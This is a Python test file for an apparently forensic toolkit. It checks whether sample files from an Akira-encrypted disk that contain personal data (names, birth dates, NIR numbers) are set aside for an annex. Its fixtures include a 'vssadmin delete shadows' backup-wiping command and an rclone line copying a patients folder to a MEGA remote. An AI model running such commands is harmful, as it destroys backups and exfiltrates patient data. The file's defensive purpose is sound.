"""What leaves as bytes from a real folder: what tells of a person is for the annex."""

import gzip
import hashlib
import io
import random
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.capture.lines import line
from toolkit.capture import maker_place
from toolkit.capture.choice import Chosen
from toolkit.custody.case import Case
from toolkit.custody.tokens import tokens_of
from toolkit.media.folder import FolderSource

NOISE = random.Random(3).randbytes(4096)  # noqa: S311 - the same bytes each time
HEAD = b"PK\x03\x04\x14\0\0\0\x08\0\0\0!\0"  # what an encryption that leaves the first bytes leaves
SAID = b"some words that are read once they are unpacked; " + bytes(range(32, 127))


def packed(name: str) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, SAID)
    whole = held.getvalue()
    return whole[: whole.index(b"PK\x01\x02")] + NOISE


CASES: dict[str, tuple[str, bytes, bool]] = {
    "ProgramData/Logos/logos.ini.akira": ("sample_program_file", NOISE, False),
    "ProgramData/Logos/a.ini.akira": ("sample_program_file", NOISE + b"un texte lisible assez long", True),
    "Windows/inf/w.inf.akira": ("sample_windows_file", NOISE + b"; a line of a setup by its maker", False),
    "Windows/inf/x.inf.akira": ("sample_windows_file", NOISE + "préparé pour KEVRIN".encode("cp1252"), True),
    "Program Files/Logos/logos.dll": ("twin", b"MZ" + NOISE + b"(c) Jean Dupont a@b.example", False),
    "Program Files/Logos/other.dll": ("twin", b"MZ" + NOISE + b"\0kevrin\0", True),
    "Program Files/Logos/num.dll": ("twin", b"MZ" + NOISE + b"\0NIR 2 84 05 75 123 456 78\0", True),
    "Program Files/Logos/logos.ini": ("twin", b"[taille]\r\nx=1\r\n", True),
    "Program Files/Logos/modele.docx": ("twin", b"PK\x03\x04" + NOISE, True),
    "Program Files/Logos/devis_type.docx.akira": ("sample_program_file", HEAD + NOISE, False),
    "Program Files/Logos/lettre_type.docx.akira": ("sample_program_file", packed("word/document.xml"), True),
    "Program Files/Logos/notice.docx.akira": ("sample_program_file", packed("[Content_Types].xml"), False),
    "Program Files/Logos/a.dat.akira": ("sample_program_file", NOISE + gzip.compress(SAID), True),
    "Program Files/Logos/b.dat.akira": ("sample_program_file", NOISE + b"\0e.du@free.fr\0" + NOISE, True),
    "Program Files/Logos/radio_exemple.jpg": ("twin", b"\xff\xd8" + NOISE + b"[x@!.d]b@a.b" + NOISE, False),
    "Users/Public/svc.exe": ("program", b"MZ" + NOISE, False),
    "Users/Public/long.exe": ("program", b"MZ" + NOISE * 300 + b"\0NIR 2 84 05 75 123 456 78\0", True),
    "Users/Public/who.exe": ("program", b"MZ" + NOISE + "Kevrin Odalys".encode("utf-16-le"), True),
    "Users/Public/born.exe": ("program", b"MZ" + NOISE + "\0née le 12/05/1984\0".encode(), True),
    "Users/Public/made.exe": (
        "program",
        b"MZ" + NOISE + b"\0(c) Jean Dupont a@b.example 777777777777777\0",
        False,
    ),
    "Users/Public/nu.bat": ("program", b"vssadmin delete shadows /all /quiet\r\n", False),
    "Users/Public/exfil.bat": ("program", b'rclone copy "C:\\Patients\\Kevrin Odalys" mega:out\r\n', True),
    "Users/Public/rappel.ps1": ("program", "# NIR 284057512345678".encode("utf-16"), True),
}


@pytest.fixture
def case(tmp_path: Path) -> Iterator[Case]:
    held = Case.create(
        tmp_path / "case", source={"label": "disk", "kind": "folder", "size": 0}, language="fr"
    )
    held.write_json("data_roots", ["Patients"])
    lines = [line("Patients/Kevrin Odalys/x.jpg", 1), *(line(path, 2) for path in CASES)]
    list(held.record("scan", iter(lines)))
    yield held
    held.close()


@pytest.mark.parametrize("path", CASES)
def test_what_may_tell_of_a_person_is_for_the_annex(case: Case, tmp_path: Path, path: str) -> None:
    reason, content, annex = CASES[path]
    place = tmp_path / "disk" / path
    place.parent.mkdir(parents=True)
    place.write_bytes(content)
    facts: dict[str, Any] = {"sha256": hashlib.sha256(content).hexdigest()}
    one = Chosen(line(path, 2, volume="", size=len(content), **facts), reason, 1)
    found = maker_place.placed(case, FolderSource("disk", tmp_path / "disk"), one)
    assert (found.prefix, bool(found.facts.get("quotes"))) == (("A", True) if annex else ("P", False))


@pytest.mark.parametrize("size", [2_000, 60_000, 250_000])
def test_nothing_is_read_in_random_bytes(case: Case, size: int) -> None:
    chance = random.Random(size)  # noqa: S311 - the same bytes each time
    assert not any(maker_place.told(chance.randbytes(size), tokens_of(case), ()) for _ in range(8))


def test_what_stands_between_random_bytes_is_read(case: Case) -> None:
    said = ("née le 12/05/1984", "olwenn@free.fr", "2 84 05 75 123 456 78", "Odalys KEVRIN", "06 39 98 47 17")
    for one in said:
        for encoding in ("utf-8", "cp1252", "utf-16-le"):
            content = NOISE + b"\0" + one.encode(encoding) + b"\0\0" + NOISE
            assert maker_place.told(content, tokens_of(case), ()), (one, encoding)
